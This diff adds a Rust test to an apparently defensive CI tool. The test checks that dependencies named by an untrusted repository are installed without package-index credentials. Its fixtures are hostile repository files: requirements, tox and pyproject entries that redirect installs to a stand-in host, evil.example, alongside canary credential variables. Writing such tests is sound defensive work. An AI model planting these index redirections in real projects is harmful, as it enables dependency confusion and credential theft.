@@ -295,3 +295,61 @@ fn secrets_arrive_whole_and_too_many_are_refused() {
     assert_eq!(run.code, 2, "{run:?}");
     assert!(run.stderr.contains("the secrets in the environment are too long"), "{run:?}");
 }
+
+/// Whatever the repository asks for is installed without the credentials of the package index: its files can name a host,
+/// and what they name is built.
+#[test]
+fn nothing_that_the_repository_names_is_installed_with_credentials() {
+    let project = "[project]\nname = \"demo\"\nversion = \"1\"\ndependencies = [\"idna\"]\n";
+    let evil = "[[tool.uv.index]]\nname = \"ours\"\nurl = \"https://evil.example/simple\"\n";
+    let hook = "repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v0.1.0\n  hooks: [{ id: ruff }]\n";
+    for (name, stage, files) in [
+        (
+            "a list with an index",
+            "test",
+            vec![("requirements.txt", "--index-url https://evil.example/\nidna\n".to_owned())],
+        ),
+        ("a list of tests", "test", vec![("requirements-test.txt", "idna\n-i https://evil.example/\n".to_owned())]),
+        ("a build system", "test", vec![("pyproject.toml", format!("{project}[build-system]\nrequires = [\"x\"]\n"))]),
+        (
+            "a lock",
+            "test",
+            vec![("pyproject.toml", format!("{project}{evil}")), ("uv.lock", "version = 1\n".to_owned())],
+        ),
+        (
+            "a group",
+            "test",
+            vec![("pyproject.toml", format!("{project}{evil}[dependency-groups]\ntest = [\"idna\"]\n"))],
+        ),
+        (
+            "an environment of tox",
+            "test",
+            vec![("tox.ini", "[testenv]\ndeps =\n  idna\n  -rhttps://evil.example/r.txt\n".to_owned())],
+        ),
+        ("the version of a hook", "lint", vec![(".pre-commit-config.yaml", hook.to_owned())]),
+    ] {
+        let mut sandbox = Sandbox::empty();
+        let seen = sandbox.path("seen");
+        let spy = format!("{{ echo \"$@\"; env; }} >> '{}'", seen.display());
+        let made =
+            "for last; do :; done; mkdir -p \"$last/bin\"; : > \"$last/bin/python\"; chmod +x \"$last/bin/python\"";
+        sandbox.stand_in("uv", &format!("{spy}; case \"$*\" in *' venv '*) {made}; exit ;; esac; echo no >&2; exit 1"));
+        for name in ["UV_INDEX_OURS_PASSWORD", "PIP_EXTRA_INDEX_URL"] {
+            sandbox.set(name, &value(name));
+        }
+        sandbox.write("test_demo.py", "def test_demo():\n    pass\n");
+        for (file, text) in files {
+            sandbox.write(file, &text);
+        }
+        sandbox.commit();
+        let run = sandbox.run(&[stage]);
+        let text = fs::read_to_string(&seen).unwrap_or_else(|err| panic!("{name}: uv was not asked: {err} {run:?}"));
+        // The pinned set is ours, and asked for with hashes.
+        let of_project: Vec<&str> = text.split("\n--").filter(|call| !call.contains("--require-hashes")).collect();
+        assert!(!of_project.is_empty(), "{name}: {text}");
+        assert!(!of_project.iter().any(|call| call.contains("canary")), "{name}: {text}");
+        // With a lock file, uv runs the tests itself.
+        let is_told = format!("{}{}", run.stdout, run.stderr).contains("credentials of the package index are withheld");
+        assert_eq!(is_told, text.contains(" pip install "), "{name}: {run:?}");
+    }
+}
